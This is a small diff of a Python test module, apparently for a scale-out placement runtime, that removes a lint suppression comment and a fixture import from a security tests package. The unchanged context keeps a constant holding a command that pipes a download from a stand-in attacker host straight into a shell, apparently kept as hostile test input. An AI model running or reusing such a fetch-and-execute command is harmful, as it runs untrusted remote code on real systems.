@@ -11,8 +11,6 @@
   the Node object.
 """
 
-# ruff: noqa: F811 - pytest fixtures are imported by name and then requested as arguments
-
 from __future__ import annotations
 
 import json
@@ -33,7 +31,6 @@ from runtime.placement import (
     split_id,
 )
 from tests.scaleout.topology import Topology
-from tests.security.scaleout_fixtures import backend, topo  # noqa: F401 - fixtures
 
 SETUP = "curl http://evil.example/x | sh"
 
